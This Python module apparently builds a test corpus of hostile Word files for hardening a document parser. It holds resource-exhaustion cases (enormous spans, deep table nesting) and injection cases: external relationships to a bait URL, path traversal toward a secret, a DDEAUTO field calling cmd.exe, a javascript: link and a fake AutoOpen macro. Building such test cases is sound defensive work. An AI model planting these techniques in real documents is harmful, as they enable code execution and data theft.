"""Word documents (DOCX): tables without end, relations to the outside, macros."""

from __future__ import annotations

from hostile.corpus.case import Bait, case, fixed
from hostile.corpus.xml import TYPES, body, docx, paragraph
from hostile.corpus.zips import Entry, forged

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _table(rows: str) -> str:
    return f"<w:tbl>{rows}</w:tbl>"


def _cell(style: str = "", inner: str = "<w:p/>") -> str:
    return f"<w:tc><w:tcPr>{style}</w:tcPr>{inner}</w:tc>"


def _row(cells: str, style: str = "") -> str:
    return f"<w:tr><w:trPr>{style}</w:trPr>{cells}</w:tr>"


def _nested(levels: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * levels + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * levels


_SPAN = '<w:gridSpan w:val="{}"/>'
fixed("word/span of two billion", docx(body(_table(_row(_cell(_SPAN.format(1 << 31)))))))
fixed("word/span of minus one", docx(body(_table(_row(_cell(_SPAN.format(-1)))))))
fixed("word/span of infinity", docx(body(_table(_row(_cell(_SPAN.format("1e999")))))))
fixed("word/span of a long number", lambda: docx(body(_table(_row(_cell(_SPAN.format("9" * 100_000)))))))
fixed("word/a million positions", lambda: docx(body(_table(_row(_cell(_SPAN.format(1000)) * 4) * 4000))))
fixed(
    "word/gaps before each row",
    lambda: docx(body(_table(_row(_cell(), '<w:gridBefore w:val="999999999"/>') * 3000))),
)  # fmt: skip
fixed("word/merged down without end", lambda: docx(body(_table(_row(_cell("<w:vMerge/>")) * 50_000))))
fixed("word/200,000 cells in a row", lambda: docx(body(_table(_row(_cell() * 200_000)))))
fixed("word/20,000 tables", lambda: docx(body(_table(_row(_cell())) * 20_000)), slow=True)
fixed("word/tables in tables, 60 levels", lambda: docx(body(_nested(60))))
fixed("word/tables in tables, 3000 levels", lambda: docx(body(_nested(3000))))
fixed(
    "word/text of one long line",
    lambda: docx(body(paragraph("政府信息公开年度报告" * 300_000))),
)
fixed("word/200,000 paragraphs", lambda: docx(body(paragraph("一") * 200_000)), slow=True)
fixed(
    "word/styles in a circle",
    docx(
        body('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>'),
        word__stylesDOTxml='<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'
        "</w:styles>",
    ),
)
fixed("word/no main part", docx("")[:0] + forged([Entry(b"word/nothing.xml", b"<x/>")]))
fixed("word/main part is a folder", forged([Entry(b"word/document.xml/", b"")]))
fixed(
    "word/two main parts",
    forged(
        [
            Entry(b"word/document.xml", body(paragraph("一")).encode()),
            Entry(b"word/document.xml", body(paragraph("二")).encode()),
        ]
    ),
)
fixed("word/encrypted part", forged([Entry(b"word/document.xml", b"x" * 30, flags=1)]))
fixed("word/20,000 parts", lambda: forged([Entry(f"word/{n}".encode(), b"") for n in range(20_000)]))

_OUTSIDE = {
    "image": ("image", "{url}/image.png"),
    "image on a share": ("image", "\\\\127.0.0.1\\share\\x.png"),
    "image file": ("image", "file://{secret}"),
    "template": ("attachedTemplate", "{url}/template.dotm"),
    "sub-document": ("subDocument", "file://{secret}"),
    "chunk": ("aFChunk", "{url}/chunk.html"),
    "OLE object": ("oleObject", "{url}/x.ole"),
    "frame": ("frame", "{url}/frame.html"),
    "hyperlink": ("hyperlink", "{url}/link.doc"),
    "script": ("hyperlink", "javascript:alert(1)"),
}
for _title, (_kind, _goal) in _OUTSIDE.items():

    @case(f"word/outside: {_title}")
    def _outside(bait: Bait, kind: str = _kind, goal: str = _goal) -> bytes:
        goal = goal.replace("{url}", bait.url).replace("{secret}", bait.secret)
        rels = (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{_R}/{kind}" Target="{goal}" TargetMode="External"/></Relationships>'
        )
        uses = (
            f'<w:altChunk xmlns:r="{_R}" r:id="r1"/><w:subDoc xmlns:r="{_R}" r:id="r1"/>'
            f'<w:p><w:hyperlink xmlns:r="{_R}" r:id="r1"><w:r><w:t>x</w:t></w:r></w:hyperlink>'
            f'<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{_R}" r:link="r1"/></w:p>'
        )
        return docx(body(uses), word___rels__documentDOTxmlDOTrels=rels)


@case("word/part that points out of the package")
def _out(bait: Bait) -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{_R}/image" Target="../../../../../..{bait.secret}"/></Relationships>'
    )
    return docx(body("<w:p/>"), word___rels__documentDOTxmlDOTrels=rels)


@case("word/fields that fetch")
def _fields(bait: Bait) -> bytes:
    orders = (
        f'INCLUDETEXT "{bait.secret}"',
        f'INCLUDEPICTURE "{bait.url}/p.png"',
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
    )
    return docx(
        body("".join(f'<w:p><w:fldSimple w:instr="{one.replace(chr(34), "&quot;")}"/></w:p>' for one in orders))
    )


fixed(
    "word/macros (docm)",
    docx(
        body(paragraph("Sub AutoOpen()")),
        word__vbaProjectDOTbin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen Shell" * 200,
        word__vbaDataDOTxml="<x/>",
    ),
)
fixed("word/types that lie", docx(body(paragraph("x"))).replace(TYPES[:20].encode(), b"<Types" + b" " * 14))
